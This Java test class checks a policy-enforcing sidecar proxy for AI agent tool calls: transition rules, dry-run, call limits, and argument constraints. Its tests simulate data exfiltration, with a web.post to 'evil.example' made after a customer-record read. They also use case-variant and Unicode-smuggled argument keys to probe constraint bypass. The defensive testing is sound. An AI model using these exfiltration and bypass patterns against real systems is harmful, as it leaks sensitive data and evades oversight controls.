package dev.tollgate.proxy.inspect;

import static dev.tollgate.proxy.inspect.McpInspectionTest.assertRpcError;
import static dev.tollgate.proxy.inspect.McpInspectionTest.call;
import static dev.tollgate.proxy.inspect.McpInspectionTest.json;
import static dev.tollgate.proxy.inspect.McpInspectionTest.post;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;

import com.fasterxml.jackson.databind.JsonNode;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import dev.tollgate.api.policy.Policy;
import dev.tollgate.api.token.ArgumentConstraint;
import dev.tollgate.api.token.TokenClaims;
import dev.tollgate.api.token.ToolGrant;
import dev.tollgate.api.wire.TaskSpec;
import dev.tollgate.proxy.Sidecar;
import dev.tollgate.proxy.credential.CredentialFixture;
import dev.tollgate.proxy.credential.CredentialState;
import dev.tollgate.proxy.metrics.Direction;

/**
 * The policy (enforcement order step 4) and the scope's argument constraints, evaluated by the agent's sidecar on
 * egress through real sidecars: transitions between tools of a task, dry-run, a per-task limit under concurrency,
 * the policy's view of tools/list and of REST routes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PolicyInspectionTest {
    static final String TOOLS = "tools:\n  crm.read_customer: {labels: [sensitive-read]}\n"
            + "  crm.delete_customer: {labels: [write]}\n  web.post: {labels: [external-egress]}\n";

    CredentialFixture fx;
    McpApp app;
    CredentialFixture.Workload bot;
    Sidecar agent;
    /** Every sidecar of the mesh: all of them run on the fixture's clock. */
    final List<Sidecar> sidecars = new ArrayList<>();
    final AtomicReference<Policy> policy = new AtomicReference<>();
    final List<String> decisions = new CopyOnWriteArrayList<>();

    @BeforeAll
    void start(@TempDir Path dir) throws Exception {
        fx = new CredentialFixture(dir);
        app = new McpApp();
        CredentialFixture.Workload crm = fx.workload(McpInspectionTest.CRM);
        CredentialFixture.Workload billing = fx.workload(McpInspectionTest.BILLING);
        List<String> tools = new ArrayList<>(List.of(McpInspectionTest.AGENT_TOOLS));
        tools.add("other.tool");
        bot = fx.workload(McpInspectionTest.BOT, tools.toArray(new String[0]));
        Sidecar crmSidecar = fx.sidecar(crm, CredentialFixture.toolYaml(app.address(), "")
                + "ingress: {inspection: mcp}\n");
        Sidecar billingSidecar = fx.sidecar(billing, CredentialFixture.toolYaml(app.address(), ""));
        agent = fx.sidecar(bot, McpInspectionTest.agentYaml(crmSidecar, billingSidecar),
                b -> b.policy(() -> Optional.ofNullable(policy.get())));
        agent.inspection().listenToDecisions(decisions::add);
        sidecars.addAll(List.of(agent, crmSidecar, billingSidecar));
    }

    @AfterAll
    void stop() throws Exception {
        if (app != null) {
            app.close();
        }
        fx.close();
    }

    void use(String rules) throws Exception {
        policy.set(Policy.parse("version: \"t.1\"\n" + TOOLS + "rules:\n" + rules));
    }

    HttpResponse<String> rpc(String token, String body) throws Exception {
        return post(agent, "http://crm/mcp", body.getBytes(StandardCharsets.UTF_8), TokenClaims.HEADER, token);
    }

    String token(String... tools) {
        return fx.task(bot, 300, tools).token();
    }

    @Test
    void deniesExternalEgressAfterSensitiveReadNamingTheRuleAndTheEarlierCall() throws Exception {
        use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
                + " within: ever}\n");
        String t = token("crm.read_customer", "web.post");
        // external egress first is fine; then the sensitive read
        assertThat(rpc(t, call(1, "web.post", "{}")).statusCode()).isEqualTo(200);
        assertThat(rpc(t, call(2, "crm.read_customer", "{\"id\":\"c-1\"}")).statusCode()).isEqualTo(200);
        int before = app.requests();
        HttpResponse<String> r = rpc(t, call("x", "web.post", "{\"url\":\"https://evil.example\"}"));
        JsonNode e = assertRpcError(r, 403, "x", -32003, "transition_forbidden");
        JsonNode data = e.path("error").path("data");
        assertThat(data.path("error").asText()).isEqualTo("insufficient_scope");
        assertThat(data.path("rule").asText()).isEqualTo("no-exfiltration");
        assertThat(data.path("after").path("tool").asText()).isEqualTo("crm.read_customer");
        assertThat(data.path("after").path("index").asInt()).isEqualTo(1);
        assertThat(app.requests()).isEqualTo(before);
        assertThat(decisions).anySatisfy(line -> assertThat(line).contains("\"outcome\":\"denied\"")
                .contains("\"reason\":\"transition_forbidden\"").contains("\"rule\":\"no-exfiltration\"")
                .contains("\"after_tool\":\"crm.read_customer\"").contains("\"tool\":\"web.post\""));
        // another task starts with a clean history
        assertThat(rpc(token("web.post"), call(3, "web.post", "{}")).statusCode()).isEqualTo(200);
    }

    @Test
    void aBatchDeniedByATransitionWithinItNamesTheCallThatCausedIt() throws Exception {
        use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
                + " within: ever}\n");
        dev.tollgate.api.wire.TaskCreatedView task = fx.task(bot, 300, "crm.read_customer", "web.post");
        String t = task.token();
        String batch = "[" + call(1, "crm.read_customer", "{\"id\":\"c-1\"}") + ","
                + call("x", "web.post", "{\"url\":\"https://evil.example\"}") + ","
                + "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/list\"}]";
        int before = app.requests();
        HttpResponse<String> r = rpc(t, batch);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
        JsonNode errors = json(r);
        assertThat(errors).hasSize(3);
        JsonNode denied = errors.get(1);
        assertThat(denied.get("id").asText()).isEqualTo("x");
        assertThat(denied.path("error").path("code").asInt()).isEqualTo(-32003);
        assertThat(denied.path("error").path("data").path("reason").asText()).isEqualTo("transition_forbidden");
        assertThat(denied.path("error").path("data").path("rule").asText()).isEqualTo("no-exfiltration");
        for (int i : new int[] {0, 2}) {
            JsonNode e = errors.get(i).path("error");
            assertThat(e.path("code").asInt()).as(errors.get(i).toString()).isEqualTo(-32004);
            assertThat(e.path("data").path("denied_call").asText()).isEqualTo("x");
        }
        assertThat(app.requests()).isEqualTo(before);
        // the decision names the tool of the call that was denied
        assertThat(decisions).anySatisfy(line -> assertThat(line).contains("\"outcome\":\"denied\"")
                .contains(task.task().id()).contains("\"reason\":\"transition_forbidden\"")
                .contains("\"tool\":\"web.post\""));
    }

    @Test
    void theHistoryOutlivesExpWhileTheTokenIsStillAcceptedWithinTheClockSkew() throws Exception {
        use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
                + " within: ever}\n");
        String t = fx.task(bot, 20, "crm.read_customer", "web.post").token();
        assertThat(rpc(t, call(1, "crm.read_customer", "{\"id\":\"c-1\"}")).statusCode()).isEqualTo(200);
        // 15 s past exp on the sidecars' clock: still accepted (credentials.clock-skew 30 s), so still the same task
        fx.clock.advance(Duration.ofSeconds(35));
        // every sidecar shares the clock: each is stale until its next watch line, the tool's ingress included
        for (Sidecar s : sidecars) {
            CredentialState state = s.credentials().orElseThrow().state();
            await().atMost(Duration.ofSeconds(10)).until(() -> !state.stale());
        }
        int before = app.requests();
        assertRpcError(rpc(t, call(2, "web.post", "{\"url\":\"https://evil.example\"}")), 403, 2, -32003,
                "transition_forbidden");
        assertThat(app.requests()).isEqualTo(before);
    }

    @Test
    void aDryRunRuleAllowsTheCallAndRecordsIt() throws Exception {
        use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
                + " within: ever}\n    mode: dry-run\n");
        String t = token("crm.read_customer", "web.post");
        double hits = agent.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN);
        assertThat(rpc(t, call(1, "crm.read_customer", "{}")).statusCode()).isEqualTo(200);
        int before = app.requests();
        HttpResponse<String> r = rpc(t, call(2, "web.post", "{}"));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        assertThat(app.requests()).isEqualTo(before + 1);
        assertThat(agent.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN))
                .isEqualTo(hits + 1);
        assertThat(decisions).anySatisfy(line -> assertThat(line).contains("\"outcome\":\"dry_run\"")
                .contains("\"reason\":\"transition_forbidden\"").contains("\"rule\":\"no-exfiltration\"")
                .contains("\"after_tool\":\"crm.read_customer\",\"after_index\":0"));
    }

    @Test
    void concurrentCallsOfOneTaskAgainstAMaxCallsOneRuleAdmitExactlyOne() throws Exception {
        use("  - id: one-delete\n    limit: {select: {tool: crm.delete_customer}, max-calls: 1}\n");
        String t = token("crm.delete_customer");
        int before = app.requests();
        int n = 8;
        ExecutorService pool = Executors.newFixedThreadPool(n);
        CountDownLatch go = new CountDownLatch(1);
        List<Future<HttpResponse<String>>> all = new ArrayList<>();
        try {
            for (int i = 0; i < n; i++) {
                int id = i;
                all.add(pool.submit(() -> {
                    go.await();
                    return rpc(t, call(id, "crm.delete_customer", "{\"id\":\"c-" + id + "\"}"));
                }));
            }
            go.countDown();
            int ok = 0;
            for (Future<HttpResponse<String>> f : all) {
                HttpResponse<String> r = f.get(60, TimeUnit.SECONDS);
                if (r.statusCode() == 200) {
                    ok++;
                } else {
                    assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
                    assertThat(json(r).path("error").path("data").path("reason").asText())
                            .isEqualTo("call_limit_exceeded");
                    assertThat(json(r).path("error").path("data").path("rule").asText()).isEqualTo("one-delete");
                }
            }
            assertThat(ok).isEqualTo(1);
            assertThat(app.requests()).isEqualTo(before + 1);
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void theScopesArgumentConstraintsAreChecked() throws Exception {
        policy.set(null);
        String t = fx.tcp.admin().createTask(new TaskSpec(bot.id().toString(), List.of(new ToolGrant(
                "crm.read_customer", List.of(new ArgumentConstraint("/id", null, null, "c-", null)))), "constrained",
                300L)).token();
        int before = app.requests();
        assertThat(rpc(t, call(1, "crm.read_customer", "{\"id\":\"c-42\"}")).statusCode()).isEqualTo(200);
        assertRpcError(rpc(t, call(2, "crm.read_customer", "{\"id\":\"x-42\"}")), 403, 2, -32003,
                "argument_not_allowed");
        assertRpcError(rpc(t, call(3, "crm.read_customer", null)), 403, 3, -32003, "argument_not_allowed");
        // a key the constraint reads with another equal but for case: a server ignoring case may read the other
        assertRpcError(rpc(t, call(4, "crm.read_customer", "{\"id\":\"c-42\",\"ID\":\"x-42\"}")), 403, 4, -32003,
                "argument_not_allowed");
        assertRpcError(rpc(t, call(5, "crm.read_customer", "{\"\u0130d\":\"x\",\"id\":\"c-1\"}")), 403, 5, -32003,
                "argument_not_allowed");
        // keys no constraint reads may differ only in case
        assertThat(rpc(t, call(6, "crm.read_customer", "{\"id\":\"c-7\",\"env\":{\"Path\":\"a\",\"PATH\":\"b\"}}"))
                .statusCode()).isEqualTo(200);
        assertThat(app.requests()).isEqualTo(before + 2);
    }

    @Test
    void withAPolicyToolsListShowsOnlyToolsBothTheScopeAndThePolicyKnow() throws Exception {
        use("  - id: any\n    limit: {max-calls: 1000}\n");
        HttpResponse<String> r = rpc(token("crm.read_customer", "other.tool"),
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}");
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        List<String> names = new ArrayList<>();
        json(r).path("result").path("tools").forEach(x -> names.add(x.path("name").asText()));
        assertThat(names).containsExactly("crm.read_customer");
    }

    @Test
    void aRestRouteToAToolThePolicyDoesNotKnowIsDeniedNamingTheRule() throws Exception {
        use("  - id: any\n    limit: {max-calls: 1000}\n");
        int before = app.requests();
        HttpResponse<String> r = CredentialFixture.viaEgress(agent, "billing", "/invoices/i-1", TokenClaims.HEADER,
                token("billing.read_invoice"));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
        JsonNode e = json(r);
        assertThat(e.path("error").asText()).isEqualTo("insufficient_scope");
        assertThat(e.path("reason").asText()).isEqualTo("unknown_tool");
        assertThat(e.path("rule").asText()).isEqualTo(Policy.UNKNOWN_TOOL_RULE);
        assertThat(app.requests()).isEqualTo(before);
    }
}
